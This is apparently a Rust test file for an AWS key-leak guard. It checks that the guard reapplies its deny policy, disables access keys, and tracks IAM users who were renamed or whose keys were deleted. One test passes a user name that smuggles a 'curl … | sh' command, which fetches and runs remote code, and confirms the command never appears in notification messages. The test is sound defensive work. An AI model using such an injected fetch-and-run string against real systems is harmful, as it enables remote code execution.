//! A deny that is taken off, and a user that is renamed: what somebody does who has the key.

use guard_contract::Step;

use super::{aws::PRINCIPAL_ID, *};

#[tokio::test(start_paused = true)]
async fn a_deny_that_is_taken_off_is_answered_with_everything_at_once() {
    let aws = enforcing();
    assert_eq!(outcome(&aws, &signal()).await, Outcome::Attached);
    assert!(aws.state().keys["AKIAACTIVE"], "the guard leaves keys alone as long as the deny stays");
    aws.state().attached = false;
    assert_eq!(outcome(&aws, &signal()).await, Outcome::Attached);
    let state = aws.state();
    assert!(state.attached && state.inline.is_some());
    assert!(state.keys.values().all(|active| !active));
    drop(state);
    assert_eq!(tripped(&aws).expect("recorded").steps, Step::ALL);
    assert_eq!(aws.state().messages.len(), 2, "each is told");
}

#[tokio::test(start_paused = true)]
async fn a_deny_that_was_put_back_is_looked_after_for_half_a_minute() {
    let aws = enforcing();
    outcome(&aws, &signal()).await;
    {
        let mut state = aws.state();
        (state.attached, state.takes_off) = (false, 5);
    }
    assert_eq!(outcome(&aws, &signal()).await, Outcome::Attached);
    let state = aws.state();
    assert!(state.attached && state.inline.is_some() && state.takes_off == 0);
}

#[tokio::test(start_paused = true)]
async fn a_first_deny_that_is_taken_off_before_it_counts_is_put_back_with_everything() {
    let quiet = enforcing();
    outcome(&quiet, &signal()).await;
    let last = quiet.state().calls.len() - 1;
    let aws = enforcing();
    aws.state().meanwhile = Some((last, |state| state.attached = false));
    assert_eq!(outcome(&aws, &signal()).await, Outcome::Attached);
    let state = aws.state();
    assert!(state.attached && state.inline.is_some());
    assert!(state.keys.values().all(|active| !active), "no other signal has to come");
}

#[tokio::test(start_paused = true)]
async fn an_inline_deny_is_looked_after_too() {
    let aws = enforcing();
    aws.state().refused.insert("attach", "LimitExceeded");
    assert_eq!(outcome(&aws, &signal()).await, Outcome::Inline);
    let state = aws.state();
    assert_eq!(state.count("put_inline"), 1, "it stays, and is put once");
    assert!(state.count("inline") > 10, "it is looked for");
}

fn called_as(user: &str) -> Value {
    let mut signal = signal();
    signal["detail"]["userIdentity"] =
        json!({"type": "IAMUser", "userName": user, "accessKeyId": "AKIAACTIVE"});
    signal
}

#[tokio::test(start_paused = true)]
async fn a_user_that_was_renamed_is_denied_under_the_name_of_its_record() {
    let aws = enforcing();
    aws.state().renamed = Some("x9");
    assert_eq!(outcome(&aws, &called_as("x9")).await, Outcome::Attached);
    let state = aws.state();
    assert!(state.messages[0].1.body.contains("Renamed:  x9\n"), "{}", state.messages[0].1.body);
    assert_eq!(state.events[0]["renamed_to"], "x9");
}

#[tokio::test(start_paused = true)]
async fn a_user_that_is_renamed_after_its_call_is_found_by_its_key() {
    let aws = enforcing();
    aws.state().renamed = Some("x9");
    assert_eq!(outcome(&aws, &called_as("backup")).await, Outcome::Attached);
    assert!(aws.state().attached);
}

#[tokio::test(start_paused = true)]
async fn the_key_that_leaked_is_recorded_where_the_alarm_came_first() {
    let aws = enforcing();
    assert_eq!(outcome(&aws, &alarm("ALARM")).await, Outcome::Attached);
    assert_eq!(tripped(&aws).expect("recorded").key, None);
    assert_eq!(outcome(&aws, &called_as("backup")).await, Outcome::AlreadyDenied);
    assert_eq!(tripped(&aws).expect("recorded").key.as_deref(), Some("AKIAACTIVE"));
}

#[tokio::test(start_paused = true)]
async fn the_key_of_a_later_call_does_not_take_the_place_of_the_first() {
    let aws = enforcing();
    assert_eq!(outcome(&aws, &called_as("backup")).await, Outcome::Attached);
    let mut later = called_as("backup");
    later["detail"]["userIdentity"]["accessKeyId"] = "AKIALATER".into();
    assert_eq!(outcome(&aws, &later).await, Outcome::AlreadyDenied);
    assert_eq!(tripped(&aws).expect("recorded").key.as_deref(), Some("AKIAACTIVE"));
}

/// A call by a session, or by a key that was deleted since: IAM knows no such key.
fn called_without_a_key(key: &str) -> Value {
    let mut signal = called_as("backup");
    signal["detail"]["userIdentity"]["accessKeyId"] = key.into();
    signal["detail"]["userIdentity"]["principalId"] = PRINCIPAL_ID.into();
    signal
}

#[tokio::test(start_paused = true)]
async fn a_renamed_user_whose_key_is_deleted_is_found_by_its_id() {
    for key in ["AKIADELETED", "ASIASESSION"] {
        let aws = enforcing();
        aws.state().renamed = Some("x9");
        assert_eq!(outcome(&aws, &called_without_a_key(key)).await, Outcome::Attached);
        assert!(aws.state().attached);
        assert_eq!(aws.state().events[0]["renamed_to"], "x9");
    }
}

#[tokio::test(start_paused = true)]
async fn a_renamed_user_is_denied_and_not_another_one_of_its_old_name() {
    for signal in [called_as("backup"), called_without_a_key("AKIADELETED")] {
        let aws = enforcing();
        (aws.state().renamed, aws.state().has_decoy) = (Some("x9"), true);
        assert_eq!(outcome(&aws, &signal).await, Outcome::Attached);
        assert!(aws.state().attached);
    }
}

#[tokio::test(start_paused = true)]
async fn a_renamed_user_is_denied_whose_alarm_alone_comes() {
    let aws = enforcing();
    aws.state().renamed = Some("x9");
    set_response(&aws, &Response { principal_id: Some(PRINCIPAL_ID.into()), ..Response::default() });
    assert_eq!(outcome(&aws, &alarm("ALARM")).await, Outcome::Attached);
    assert!(aws.state().attached);
}

#[tokio::test(start_paused = true)]
async fn an_id_that_can_not_be_looked_up_denies_the_name_of_the_record() {
    let aws = enforcing();
    aws.state().hangs.extend(["owner", "users"]);
    assert_eq!(outcome(&aws, &called_without_a_key("AKIADELETED")).await, Outcome::Attached);
    assert!(aws.state().attached);
}

#[tokio::test(start_paused = true)]
async fn a_user_that_is_renamed_right_before_it_is_denied_is_looked_for_again() {
    let quiet = enforcing();
    outcome(&quiet, &called_as("backup")).await;
    let attach = quiet.state().calls.iter().position(|call| *call == "attach").expect("it is denied");
    let aws = enforcing();
    aws.state().meanwhile = Some((attach, |state| state.renamed = Some("x9")));
    assert_eq!(outcome(&aws, &called_as("backup")).await, Outcome::Attached);
    assert!(aws.state().attached);
    assert_eq!(aws.state().count("attach"), 2);
}

#[tokio::test(start_paused = true)]
async fn a_user_that_is_renamed_and_let_go_before_the_deny_counts_is_denied_again() {
    let quiet = enforcing();
    outcome(&quiet, &called_as("backup")).await;
    let last = quiet.state().calls.len() - 1;
    let aws = enforcing();
    aws.state().meanwhile = Some((last, |state| (state.renamed, state.attached) = (Some("x9"), false)));
    outcome(&aws, &called_as("backup")).await;
    assert!(aws.state().attached && aws.state().renamed == Some("x9"));
}

#[tokio::test(start_paused = true)]
async fn a_name_that_no_user_can_have_is_in_no_message() {
    let aws = enforcing();
    for call in ["look", "attach", "put_inline", "keys"] {
        aws.state().refused.insert(call, "ValidationError");
    }
    respond(&aws, &called_as("x'; curl https://example.com | sh; '")).await.expect_err("nothing denies");
    let state = aws.state();
    assert!(!state.messages.is_empty() && state.messages.iter().all(|(_, it)| !it.body.contains("curl")));
}

#[tokio::test(start_paused = true)]
async fn a_user_that_is_gone_with_its_key_is_told_to_be_gone() {
    let aws = enforcing();
    aws.state().user_gone = true;
    assert_eq!(outcome(&aws, &called_as("x9")).await, Outcome::UserGone);
    assert!(aws.state().messages[0].1.body.contains("the user does not exist (any more)"));
}
